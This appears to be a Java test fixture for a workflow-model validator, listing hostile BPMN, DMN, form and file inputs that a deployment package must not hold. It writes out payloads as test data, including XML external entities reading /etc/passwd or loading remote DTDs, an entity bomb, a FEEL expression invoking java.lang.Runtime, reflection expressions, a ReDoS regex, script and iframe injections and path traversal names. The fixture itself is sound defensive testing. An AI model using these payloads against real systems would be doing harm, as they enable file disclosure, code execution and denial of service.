package org.twinflow.models;

import java.util.List;
import java.util.Map;

/** Elements, decisions, forms and files that a package must not hold. */
final class HostileShapes extends HostileParts {

    HostileShapes() {
        places();
        elements();
        decisions();
        forms();
        files();
    }

    private void places() {
        bpmn("version tag expression", "camunda:versionTag=\"2026.1\"", "camunda:versionTag=\"" + CODE + "\"");
        bpmn("time to live expression", "P1825D", CODE);
        bpmn("candidate starters", PROCESS, PROCESS + " camunda:candidateStarterGroups=\"x\"");
        bpmn("candidate starter users", PROCESS, PROCESS + " camunda:candidateStarterUsers=\"${x}\"");
        bpmn("job priority", PROCESS, PROCESS + " camunda:jobPriority=\"" + CODE + "\"");
        bpmn("task priority", TASK, TASK + " camunda:priority=\"" + CODE + "\"");
        bpmn("candidate users", TASK, TASK + " camunda:candidateUsers=\"" + CODE + "\"");
        bpmn("form handler class", TASK, TASK + " camunda:formHandlerClass=\"org.example.Evil\"");
        bpmn("embedded form", "sample/plan", "embedded:deployment:evil.html");
        bpmn("embedded application form", "sample/plan", "embedded:app:../../evil.html");
        bpmn("form reference expression", "camunda:formRef=\"sample-answer\"", "camunda:formRef=\"" + CODE + "\"");
        bpmn("form version expression", TASK, TASK + " camunda:formRefVersion=\"" + CODE + "\"");
        bpmn("start form", START, START.replace(">", " camunda:formKey=\"embedded:app:x\">"));
        bpmn("initiator", START, START.replace(">", " camunda:initiator=\"x\">"));
        bpmn("timer expression", "R3/P1D", CODE);
        bpmn("timer step that is no due", "R3/P1D", "${sample.readers(sampleId)}");
        bpmn("timer that storms", "R3/P1D", "R/PT1S");
        bpmn("loop expression", "camunda:collection=\"readers\"", "camunda:collection=\"" + CODE + "\"");
        bpmn("loop of reflection", "camunda:collection=\"readers\"", "camunda:collection=\"${execution.x}\"");
        bpmn(
                "loop without end",
                "camunda:collection=\"readers\" camunda:elementVariable=\"reader\"/>",
                "><bpmn:loopCardinality>1000000</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>");
        bpmn(
                "loop count expression",
                "camunda:collection=\"readers\" camunda:elementVariable=\"reader\"/>",
                "><bpmn:loopCardinality>" + CODE + "</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>");
        bpmn(
                "loop end expression",
                "camunda:elementVariable=\"reader\"/>",
                "camunda:elementVariable=\"reader\"><bpmn:completionCondition>" + CODE
                        + "</bpmn:completionCondition></bpmn:multiInstanceLoopCharacteristics>");
        bpmn("message name expression", "name=\"plan-revised\"", "name=\"" + CODE + "\"");
        bpmn(
                "decision reference expression",
                "camunda:decisionRef=\"sample-decision\"",
                "camunda:decisionRef=\"" + CODE + "\"");
        bpmn(
                "decision version expression",
                "camunda:decisionRefBinding=\"deployment\"",
                "camunda:decisionRefBinding=\"version\" camunda:decisionRefVersion=\"" + CODE + "\"");
        bpmn(
                "decision tenant",
                "camunda:decisionRefBinding=\"deployment\"",
                "camunda:decisionRefBinding=\"deployment\" camunda:decisionRefTenantId=\"${x}\"");
        bpmn(
                "documentation expression",
                END_OF_TASK,
                "<bpmn:documentation>" + CODE + "</bpmn:documentation>" + END_OF_TASK);
        bpmn(
                "xpath language",
                "id=\"definitions\"",
                "id=\"definitions\" expressionLanguage=\"http://www.w3.org/1999/XPath\"");
        bpmn(
                "import",
                "<bpmn:message id=\"planRevised\"",
                "<bpmn:import importType=\"http://schemas.xmlsoap.org/wsdl/\" location=\"http://evil/x.wsdl\" namespace=\"x\"/>"
                        + "<bpmn:message id=\"planRevised\"");
    }

    private void elements() {
        for (var element : List.of(
                "sendTask",
                "manualTask",
                "task",
                "transaction",
                "adHocSubProcess",
                "complexGateway",
                "dataObject",
                "laneSet",
                "ioSpecification",
                "property",
                "resourceRole",
                "potentialOwner",
                "humanPerformer")) {
            bpmn(element, END_OF_TASK, END_OF_TASK + "<bpmn:" + element + " id=\"x\" name=\"X\"/>");
        }
        bpmn(
                "signal",
                "<bpmn:message id=\"planRevised\"",
                "<bpmn:signal id=\"s\" name=\"" + CODE + "\"/><bpmn:message id=\"planRevised\"");
        bpmn(
                "error code expression",
                "<bpmn:message id=\"planRevised\"",
                "<bpmn:error id=\"e\" name=\"E\" errorCode=\"" + CODE + "\"/><bpmn:message id=\"planRevised\"");
        bpmn(
                "error message expression",
                "<bpmn:message id=\"planRevised\"",
                "<bpmn:error id=\"e\" errorCode=\"e\" camunda:errorMessage=\"" + CODE
                        + "\"/><bpmn:message id=\"planRevised\"");
        bpmn(
                "escalation code expression",
                "<bpmn:message id=\"planRevised\"",
                "<bpmn:escalation id=\"e\" escalationCode=\"" + CODE + "\"/><bpmn:message id=\"planRevised\"");
        bpmn(
                "conditional event",
                "<bpmn:messageEventDefinition id=\"revisionAwaitedMessage\" messageRef=\"planRevised\"/>",
                "<bpmn:conditionalEventDefinition><bpmn:condition>${true}</bpmn:condition></bpmn:conditionalEventDefinition>");
        bpmn(
                "called by expression",
                END_OF_TASK,
                END_OF_TASK + "<bpmn:callActivity id=\"call\" name=\"Call\" calledElement=\"" + CODE + "\"/>");
        bpmn(
                "called with expression",
                END_OF_TASK,
                END_OF_TASK
                        + "<bpmn:callActivity id=\"call\" name=\"Call\" calledElement=\"sample\" camunda:calledElementBinding=\"deployment\">"
                        + "<bpmn:extensionElements><camunda:in sourceExpression=\"" + CODE
                        + "\" target=\"x\"/></bpmn:extensionElements></bpmn:callActivity>");
        bpmn(
                "called with subject expression",
                END_OF_TASK,
                END_OF_TASK
                        + "<bpmn:callActivity id=\"call\" name=\"Call\" calledElement=\"sample\" camunda:calledElementBinding=\"deployment\">"
                        + "<bpmn:extensionElements><camunda:in businessKey=\"#{execution.processBusinessKey}\"/></bpmn:extensionElements></bpmn:callActivity>");
        bpmn(
                "called case",
                END_OF_TASK,
                END_OF_TASK + "<bpmn:callActivity id=\"call\" name=\"Call\" camunda:caseRef=\"x\"/>");
        bpmn(
                "second process",
                "</bpmn:process>",
                "</bpmn:process><bpmn:process id=\"other\" name=\"Other\" isExecutable=\"true\"/>");
        bpmn(
                "element of another namespace",
                END_OF_TASK,
                END_OF_TASK
                        + "<x:scriptTask xmlns:x=\"urn:x\" id=\"x\" scriptFormat=\"groovy\"><x:script>1</x:script></x:scriptTask>");
    }

    private void decisions() {
        for (var text : List.of(
                "function(x) external {java: {class: \"java.lang.Runtime\", method signature: \"getRuntime()\"}}",
                "${''.getClass()}",
                "for i in 1..1000000000 return i",
                "some x in [1] satisfies x",
                "get value(score, \"class\")",
                "score.class",
                "now()",
                "if true then 1 else 2",
                "@\"PT1S\"",
                "{a: 1}",
                "matches(\"a\", \"(a+)+b\")")) {
            dmn("input entry " + text, "&gt;= 3", text.replace("<", "&lt;"));
            dmn("output entry " + text, "<text>true</text>", "<text>" + text + "</text>");
            dmn("input expression " + text, "<text>score</text>", "<text>" + text + "</text>");
        }
        dmn(
                "language of the output",
                "<outputEntry id=\"goodEnoughAccepted\"",
                "<outputEntry id=\"goodEnoughAccepted\" expressionLanguage=\"juel\"");
        dmn("language of all", "id=\"sampleDefinitions\"", "id=\"sampleDefinitions\" expressionLanguage=\"groovy\"");
        dmn(
                "literal expression",
                "<decisionTable id=\"table\" hitPolicy=\"FIRST\">",
                "<literalExpression expressionLanguage=\"groovy\"><text>1</text></literalExpression><decisionTable id=\"table\" hitPolicy=\"FIRST\">");
        dmn(
                "business knowledge",
                "<decision id=\"sample-decision\"",
                "<businessKnowledgeModel id=\"b\"><encapsulatedLogic><text>1</text></encapsulatedLogic></businessKnowledgeModel><decision id=\"sample-decision\"");
        dmn(
                "import",
                "<decision id=\"sample-decision\"",
                "<import importType=\"x\" locationURI=\"http://evil\" namespace=\"x\"/><decision id=\"sample-decision\"");
    }

    private void forms() {
        form("iframe", "\"type\": \"number\"", "\"type\": \"iframe\", \"url\": \"https://evil\"");
        form("html", "\"type\": \"text\"", "\"type\": \"html\", \"content\": \"<script>\"");
        form("expression field", "\"type\": \"number\"", "\"type\": \"expression\", \"expression\": \"=1\"");
        form("computed label", "\"label\": \"Score\"", "\"label\": \"=score\"");
        form("computed options", "\"label\": \"Score\"", "\"label\": \"Score\", \"valuesExpression\": \"=x\"");
        form("templated text", "Look at", "{{#loop x}}Look at");
        form("juel text", "Look at", CODE);
        form("computed read-only", "\"label\": \"Score\"", "\"label\": \"Score\", \"readonly\": \"=x\"");
        form("unknown key", "\"label\": \"Score\"", "\"label\": \"Score\", \"onclick\": \"x\"");
        form("no JSON", "\"type\": \"default\",", "\"type\": ,");
    }

    private void files() {
        file("groovy beside", "evil.groovy", "1");
        file("html beside", "evil.html", "<script>");
        file("case model", "evil.cmmn", "<definitions/>");
        file("old suffix", "evil.bpmn20.xml", "<definitions/>");
        file("old decision suffix", "evil.dmn11.xml", "<definitions/>");
        file("path", "../evil.form", "{}");
        file("not XML", "evil.bpmn", "evil");
        doctype("external entity", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>", "&e;");
        doctype("external parameter entity", "<!DOCTYPE x [<!ENTITY % e SYSTEM \"http://evil/x.dtd\"> %e;]>", "x");
        doctype(
                "entity bomb",
                "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;\"><!ENTITY c \"&b;&b;\">]>",
                "&c;");
        doctype("external document type", "<!DOCTYPE definitions SYSTEM \"http://evil/x.dtd\">", "x");
        bpmn(
                "deep nest",
                END_OF_TASK,
                END_OF_TASK + "<bpmn:subProcess id=\"x\">".repeat(2000) + "</bpmn:subProcess>".repeat(2000));
        bpmn("too many", END_OF_TASK, END_OF_TASK + "<bpmn:sequenceFlow id=\"a\"/>".repeat(9000));
        models.add(new Hostile.Model(
                "no process", Map.of("evil.dmn", Sample.files().get("sample-decision.dmn"))));
        models.add(new Hostile.Model("nothing", Map.of()));
    }
}
